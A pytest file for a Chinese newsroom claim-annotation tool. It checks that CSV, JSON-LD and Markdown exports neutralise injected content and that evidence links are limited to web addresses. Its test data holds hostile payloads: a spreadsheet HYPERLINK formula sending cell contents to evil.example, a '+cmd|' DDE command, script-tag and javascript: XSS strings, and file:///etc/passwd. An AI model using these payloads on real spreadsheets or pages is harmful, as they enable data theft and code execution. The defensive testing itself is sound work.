"""Nothing we write for others can carry an injection, and no value is non-finite."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import math
import re

import pytest
from test_store_support import SEED_003, first_claim

from annotator.cli import main
from annotator.extract import extract_claims
from annotator.store import Correction, InvalidInputError, Store
from annotator.store.export import export

HOSTILE_NOTE = ('=HYPERLINK("http://evil.example/?"&A1,"点我")\n# 标题\n'
                '[点我](javascript:alert(1)) </script><script>alert(1)</script>')


@pytest.fixture
def hostile(seeded_path):
    """Decisions whose every user-given field is hostile, by an editor named ``@SUM(1)``."""
    with Store(seeded_path, editor="@SUM(A1:A9)") as store:
        store.import_text("=1+1.txt", "-2+3 测试：全市新增企业120家，同比增长-5.5%。")
        article = store.article_id("=1+1.txt")
        for c in store.claims(article):
            store.decide(c.id, c.version, "corrected", correction=Correction(-7, "家"),
                         note=HOSTILE_NOTE, evidence="https://example.com/?q=<x>&y")
        fixed = first_claim(store, SEED_003, "1804列")
        store.decide(fixed.id, fixed.version, "confirmed", note="+cmd|' /C calc'!A0")
        yield store


def _export(store, fmt, **options) -> str:
    out = io.StringIO()
    export(store.conn, fmt, out, newsroom="-报社", **options)
    return out.getvalue()


def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers(hostile):
    rows = list(csv.reader(io.StringIO(_export(hostile, "csv")[1:])))
    header, body = rows[0], rows[1:]
    numeric = {header.index(c) for c in ("value", "start", "end")}
    checked = 0
    for row in body:
        for i, cell in enumerate(row):
            if i in numeric:
                float(cell or 0)  # a number, negative or not, is written as a number
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header[i], cell)
                checked += cell.startswith("'")
    mine = [dict(zip(header, r)) for r in body if r[0] == "'=1+1.txt"]
    assert mine and all(r["decided by"] == "'@SUM(A1:A9)" for r in mine)
    assert all(r["note"] == "'" + HOSTILE_NOTE for r in mine)
    assert any(r["value"] == "-5.5" for r in mine)  # the number is not neutralised
    assert all(r["correction"] == "'-7家" for r in mine)
    assert checked >= 4 * len(mine)


def test_json_ld_escapes_what_would_close_a_script_element(hostile):
    for fmt in ("jsonld", "json"):
        text = _export(hostile, fmt)
        assert not set("<>&") & set(text)
        document = json.loads(text)  # and it still reads back as the same data
        assert json.dumps(HOSTILE_NOTE, ensure_ascii=False)[1:-1] in json.dumps(
            document, ensure_ascii=False)
    reviews = json.loads(_export(hostile, "jsonld"))["@graph"]
    assert any(r.get("citation") == "https://example.com/?q=<x>&y" for r in reviews)


def test_markdown_fields_cannot_add_headings_links_or_html(hostile):
    report = _export(hostile, "md")
    assert "\n# 标题" not in report and not re.search(r"(?<!\\)\[点我", report)
    assert "<script>" not in report and "</script>" not in report
    assert r"\[点我\](javascript:alert(1)) \</script\>" in report
    headings = [line for line in report.splitlines() if line.startswith("#")]
    assert all(line.startswith(("# 更正报告：", "## ")) for line in headings)


@pytest.mark.parametrize("url", [
    "file:///home/amy/calc.exe", "javascript:alert(1)", "data:text/html,<b>x</b>",
    "https://", "http:///path", "https://exa mple.com", "ftp://example.com/a",
    "https://example.com/\n<script>", "\\\\server\\share\\a.exe", "https://" + "a" * 3000,
])
def test_evidence_is_a_web_address_or_refused(seeded, url):
    claim = seeded.claims(1)[0]
    with pytest.raises(InvalidInputError, match="evidence"):
        seeded.annotate(claim.id, claim.version, evidence=url)
    with pytest.raises(InvalidInputError, match="evidence"):
        seeded.decide(claim.id, claim.version, "confirmed", evidence=url)
    assert seeded.claim(claim.id).evidence is None and seeded.claim(claim.id).status == "unchecked"


def test_web_evidence_is_kept(seeded):
    claim = seeded.claims(1)[0]
    kept = seeded.annotate(claim.id, claim.version, evidence=" HTTPS://tjj.cq.gov.cn/a?b=1 ")
    assert kept.evidence == "HTTPS://tjj.cq.gov.cn/a?b=1"


def test_the_detail_panel_links_only_web_pages(qtbot, seeded):
    from annotator.ui.detail_panel import DetailPanel

    panel = DetailPanel()
    qtbot.addWidget(panel)
    claim = seeded.claims(1)[0]
    text = seeded.article(1).text
    for evidence, linked in (("file:///etc/passwd", False), ("javascript:alert(1)", False),
                             ("https://example.com/a", True)):
        panel.show_claim(dataclasses.replace(claim, evidence=evidence), text, "unchecked", [], [])
        assert ("<a " in panel.evidence.text()) == linked
        assert panel.evidence.openExternalLinks()


@pytest.mark.parametrize("text", [
    "1" * 309 + "元", "9" * 305 + "亿元", "营收" + "9" * 400 + "万元，增长5%", "比例为" + "9" * 320 + "%",
])
def test_the_extractor_never_gives_a_non_finite_value(text, tmp_path, capsys):
    for claim in extract_claims(text):
        assert math.isfinite(claim.value)
        assert claim.value_high is None or math.isfinite(claim.value_high)
    path = tmp_path / "a.txt"
    path.write_text(text, encoding="utf-8")
    assert main(["extract", str(path), "--format", "jsonl"]) == 0

    def refuse(constant):
        raise AssertionError(f"{constant} is not JSON")

    for line in capsys.readouterr().out.splitlines():
        json.loads(line, parse_constant=refuse)


@pytest.mark.parametrize("value", [math.inf, -math.inf, math.nan, 10 ** 400, "12", True],
                         ids=["inf", "-inf", "nan", "10**400", "str", "bool"])
def test_add_claim_refuses_a_value_that_is_not_a_finite_number(seeded, value):
    text = seeded.article(1).text
    start = text.index("。") - 2
    with pytest.raises(InvalidInputError, match="value"):
        seeded.add_claim(1, start, start + 2, value=value)
